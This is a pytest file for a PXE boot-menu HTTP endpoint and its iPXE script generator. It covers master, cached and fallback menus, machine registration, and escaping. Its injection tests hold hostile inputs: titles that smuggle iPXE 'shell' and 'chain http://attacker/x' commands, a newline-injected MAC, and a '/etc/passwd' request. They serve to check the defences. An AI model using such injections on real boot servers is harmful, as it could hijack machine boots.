"""medulla-pxe's boot-menu HTTP endpoint over in-memory transports with a task.Clock and a
link following ApplianceLink's contract (the real request/timeout code, a recording
channel): menus from the master, the cache and the built-in fallback when it is away,
registration, bad queries, one access-log line per request, and the iPXE script itself
(escaping, order, visibility, defaults, no keyboard needed)."""

import pytest
from twisted.internet import defer
from twisted.internet.address import IPv4Address
from twisted.internet.task import Clock
from twisted.internet.testing import StringTransport
from twisted.logger import Logger, formatEvent
from twisted.web.server import Site
from twisted.words.protocols.jabber.jid import JID

from medulla_appliance.core.xmpp.link import LinkDown, Requests
from medulla_appliance.pxe import ipxe_script
from medulla_appliance.pxe.menus import MenuSource
from medulla_appliance.pxe.menus_http import BootMenuResource
from tests.unit.api_harness import Response
from tests.unit.test_xmpp_link import RecordingChannel

MASTER = JID("master@medulla.example/master")
MAC = "52:54:00:12:34:56"
SMBIOS = "4c4c4544-0057-3210-8053-c4c04f4b5132"


def item(label, service=None, title=None, boot=None, default=False, visible=True, wol=False):
    return {"label": label, "kind": "service" if service else "master",
            "service": service or "", "title": title or label, "boot": boot or {},
            "default": default, "visible": visible, "default_on_wol": wol}


DEFAULT = {"name": "default", "title": "Medulla boot menu", "timeout": 10, "items": [
    item("continue", "continue", "Boot from the local disk", default=True, wol=True),
    item("backup", "backup", "Backup", boot={"kernel": "http://{server}/davos/vmlinuz",
                                            "initrd": ["http://{server}/davos/initrd.img"],
                                            "args": "davos_action=backup"})]}
REGISTRATION = {"name": "registration", "title": "Medulla: unknown machine", "timeout": 10,
                "items": [item("register", "register", "Register", default=True),
                          item("register-ask", "register-ask", "Register, choosing its name"),
                          item("continue", "continue", "Boot from the local disk")]}


class FakeLink:
    """ApplianceLink's contract: ``request`` fails at once with LinkDown while offline;
    otherwise the real Requests (answers by sessionid, LinkTimeout on the clock)."""

    def __init__(self, clock):
        self.channel = RecordingChannel(clock)
        self.requests = Requests(self.channel, clock)
        self.online = True

    def request(self, action, data, timeout=10):
        if not self.online:
            return defer.fail(LinkDown("no XMPP session to the master"))
        return self.requests.request(MASTER, action, data, timeout)

    def answer(self, data, ret=0, index=-1):
        return self.channel.answer(index, data, ret=ret)

    @property
    def last(self):
        return self.channel.sent[-1][1]


class Endpoint:
    def __init__(self):
        self.clock = Clock()
        self.clock.advance(1_763_820_000)
        self.link = FakeLink(self.clock)
        self.source = MenuSource(self.link, "master", timeout=3)
        self.resource = BootMenuResource(self.source)
        self.events = []
        self.resource.log = Logger(observer=self.events.append)
        self.site = Site(self.resource, reactor=self.clock)

    def get(self, target):
        proto = self.site.buildProtocol(None)
        transport = StringTransport(peerAddress=IPv4Address("TCP", "192.0.2.50", 2048),
                                    hostAddress=IPv4Address("TCP", "192.0.2.1", 80))
        proto.makeConnection(transport)
        proto.dataReceived(b"GET %s HTTP/1.1\r\nHost: 192.0.2.1\r\n\r\n" % target.encode())
        return transport

    @staticmethod
    def response(transport):
        assert transport.value(), "no answer yet"
        return Response(transport.value())

    def log_lines(self):
        return [formatEvent(e) for e in self.events]


@pytest.fixture
def endpoint():
    return Endpoint()


def menu_query(mac=MAC, uuid=SMBIOS):
    return f"/medulla/bootmenu?mac={mac}&uuid={uuid}&srv=192.0.2.1"


def test_an_unknown_mac_gets_the_registration_menu_from_the_master(endpoint):
    transport = endpoint.get(menu_query(mac=MAC.upper()))
    assert transport.value() == b""  # waiting for the master
    assert (endpoint.link.last.action, endpoint.link.last.data) == \
        ("pxe.menu", {"mac": MAC, "uuid": SMBIOS, "server": "master"})
    endpoint.link.answer({"reason": "registration", "machine": None, "menu": REGISTRATION})
    response = endpoint.response(transport)
    script = response.raw_body.decode()
    assert response.code == 200 and script.startswith("#!ipxe\n")
    # No keyboard needed: the default item registers after the timeout.
    assert "choose --timeout 10000 --default i1 medulla_choice" in script
    mac = MAC.replace(":", "%3A")  # see test_ipxe_script.py
    assert f"chain /medulla/register?mac={mac}&uuid={SMBIOS}&auto=1&name=${{hostname:uristring}}" \
        in script
    assert endpoint.log_lines() == [
        f"HTTP 192.0.2.50:2048 GET /medulla/bootmenu mac={MAC} uuid={SMBIOS}: 200 menu "
        "registration (registration)"]


def test_medullas_own_path_answers_too(endpoint):
    transport = endpoint.get("/mmc/imaging/bootmenu.php?mac=" + MAC + "&uuid=&srv=10.0.0.1")
    endpoint.link.answer({"reason": "default", "machine": {"uuid": "m-1"}, "menu": DEFAULT})
    assert "item i1 Boot from the local disk" in endpoint.response(transport).raw_body.decode()


def test_without_the_master_the_last_menu_of_the_mac_then_the_last_default_then_builtin(
        endpoint):
    endpoint.link.online = False
    first = endpoint.response(endpoint.get(menu_query()))
    assert "Medulla: master unreachable" in first.raw_body.decode()
    endpoint.link.online = True
    transport = endpoint.get(menu_query())
    endpoint.link.answer({"reason": "own", "machine": None, "menu": dict(DEFAULT, name="mine")})
    endpoint.response(transport)
    other = endpoint.get(menu_query(mac="52:54:00:00:00:02", uuid=""))
    endpoint.link.answer({"reason": "default", "machine": None, "menu": DEFAULT})
    endpoint.response(other)
    # The master stops answering: timeout (3 s here), then the cache.
    transport = endpoint.get(menu_query())
    endpoint.clock.advance(2.9)
    assert transport.value() == b""
    endpoint.clock.advance(0.2)
    assert "menu mine for" in endpoint.response(transport).raw_body.decode()
    endpoint.link.online = False
    third = endpoint.get(menu_query(mac="52:54:00:00:00:03", uuid=""))
    assert "menu default for" in endpoint.response(third).raw_body.decode()
    lines = endpoint.log_lines()
    assert lines[0].endswith("menu built-in (fallback: master unreachable: no XMPP session "
                             "to the master)")
    assert lines[3].endswith("menu mine (cached: master did not answer: no answer to pxe.menu "
                             "within 3 s; last menu for this MAC)")
    assert lines[4].endswith("menu default (cached: master unreachable: no XMPP session to "
                             "the master; last default menu)")


def test_a_malformed_answer_from_the_master_is_not_served(endpoint):
    transport = endpoint.get(menu_query())
    endpoint.link.answer({"reason": "own", "menu": {"items": "no"}})
    body = endpoint.response(transport).raw_body.decode()
    assert "master unreachable" in body and "goto medulla_local" in body


@pytest.mark.parametrize("query, word", [
    ("mac=nope&uuid=", "mac"), ("uuid=" + SMBIOS, "mac"),
    (f"mac={MAC}&uuid=1234", "uuid"), (f"mac={MAC}%0a:evil", "mac"),
])
def test_bad_query_values_get_400_and_a_script_that_boots_on(endpoint, query, word):
    response = endpoint.response(endpoint.get("/medulla/bootmenu?" + query))
    body = response.raw_body.decode()
    assert response.code == 400 and body.startswith("#!ipxe\necho medulla-pxe: bad request")
    assert "goto medulla_local" in body and endpoint.link.channel.sent == []
    assert endpoint.log_lines()[0].split(": 400 bad request: ")[1].startswith(word)
    assert "\n" not in endpoint.log_lines()[0]


def test_registration_with_an_automatic_name_then_boot_on(endpoint):
    transport = endpoint.get(f"/medulla/register?mac={MAC}&uuid={SMBIOS}&auto=1&name=")
    assert endpoint.link.last.data == {"mac": MAC, "uuid": SMBIOS, "name": "pc-525400123456",
                                       "server": "master"}
    endpoint.link.answer({"machine": {"uuid": "m-7", "hostname": "pc-525400123456"},
                          "created": True})
    body = endpoint.response(transport).raw_body.decode()
    assert "registered with Medulla as pc-525400123456 (m-7)" in body
    assert endpoint.log_lines()[-1].endswith("200 registered pc-525400123456 (m-7)")


def test_a_refused_registration_says_why_and_boots_on(endpoint):
    transport = endpoint.get(f"/medulla/register?mac={MAC}&uuid=&name=lab-1")
    endpoint.link.answer({"error": "name-taken", "message": "another machine is already "
                          "named 'lab-1' (m-2)"}, ret=409)
    body = endpoint.response(transport).raw_body.decode()
    assert "registration failed: another machine is already named 'lab-1' (m-2)" in body
    assert body.count("goto medulla_local") >= 1
    bad = endpoint.response(endpoint.get(f"/medulla/register?mac={MAC}&name=a%20b"))
    assert bad.code == 400  # a typed name that is not a host name, without auto


def test_unknown_paths_are_404_and_other_methods_405(endpoint):
    assert endpoint.response(endpoint.get("/etc/passwd")).code == 404
    proto = endpoint.site.buildProtocol(None)
    transport = StringTransport()
    proto.makeConnection(transport)
    proto.dataReceived(b"POST /medulla/bootmenu HTTP/1.1\r\nContent-Length: 0\r\n\r\n")
    assert transport.value().startswith(b"HTTP/1.1 405")


# -- the script ------------------------------------------------------------------------

def render(menu, **kwargs):
    return ipxe_script.render_menu(menu, mac=MAC, uuid=SMBIOS, server="192.0.2.1", **kwargs)


def test_items_in_order_only_visible_ones_shown_default_after_timeout():
    menu = {"name": "m", "title": "T", "timeout": 7, "items": [
        item("w11", title="Windows 11", boot={"chain": "http://{server}/w11.ipxe"}),
        item("hidden", "reboot", visible=False),
        item("continue", "continue", "Local disk", default=True),
        item("off", "poweroff", wol=True)]}
    script = render(menu)
    lines = script.splitlines()
    assert [line for line in lines if line.startswith("item ")] == [
        "item i1 Windows 11", "item i3 Local disk", "item i4 off"]
    assert "choose --timeout 7000 --default i3 medulla_choice || goto medulla_menu" in lines
    assert "chain http://192.0.2.1/w11.ipxe || goto i1_failed" in lines
    assert "choose --timeout 7000 --default i4 medulla_choice || goto medulla_menu" in \
        render(menu, wol=True).splitlines()
    # continue: exit on UEFI, sanboot of the first disk on BIOS.
    assert script.endswith(":medulla_local\niseq ${platform} efi && exit 0 ||\n"
                           "sanboot --no-describe --drive 0x80 || exit 0\n")
    assert "goto i3" in render(dict(menu, timeout=0)).splitlines()
    assert "menu T" not in render(dict(menu, timeout=0))


def test_a_kernel_master_and_its_failure_path():
    lines = render(DEFAULT).splitlines()
    assert lines[lines.index(":i2"):lines.index(":i2") + 7] == [
        ":i2", "kernel http://192.0.2.1/davos/vmlinuz davos_action=backup || goto i2_failed",
        "initrd http://192.0.2.1/davos/initrd.img || goto i2_failed", "boot || goto i2_failed",
        ":i2_failed", "echo medulla-pxe: cannot boot Backup; booting the local disk",
        "sleep 5"]


@pytest.mark.parametrize("title", [
    "Evil\n:medulla_local\nshell", "Evil\r\nchain http://attacker/x", "Evil ${net0/ip}",
    "Evil && shell", "Evil || shell", "Evil ; shell", "Evil #", "--delete", "Evil\x1b[2J"])
def test_an_injected_title_is_neutralised(title):
    menu = {"name": "m\n:x", "title": title, "timeout": 5,
            "items": [item("continue", "continue", title, default=True)]}
    lines = render(menu).splitlines()
    # Only our own labels and commands: nothing the title carried became a line.
    labels = [line for line in lines if line.startswith(":")]
    assert labels == [":medulla_menu", ":i1", ":medulla_local"]
    assert not any(line.startswith(("shell", "chain http://attacker")) for line in lines)
    shown = [line for line in lines if line.startswith(("menu ", "item "))]
    for line in shown:
        words = line.split()
        assert "${" not in line and "\x1b" not in line
        assert not {"&&", "||", ";"} & set(words) and not any(w.startswith("#") for w in words)
        assert not words[1].startswith("-")


def test_a_bad_boot_definition_in_cached_data_is_not_written():
    menu = {"name": "m", "title": "T", "timeout": 5, "items": [
        item("continue", "continue", default=True),
        item("evil", title="Evil", boot={"chain": "http://x/a\nshell"})]}
    script = render(menu)
    assert "\nshell" not in script and "refuses" in script


def test_non_ascii_titles_are_transliterated():
    assert ipxe_script.ipxe_text("Démarrer sur le disque") == "Demarrer sur le disque"
    assert ipxe_script.ipxe_text("") == "?"
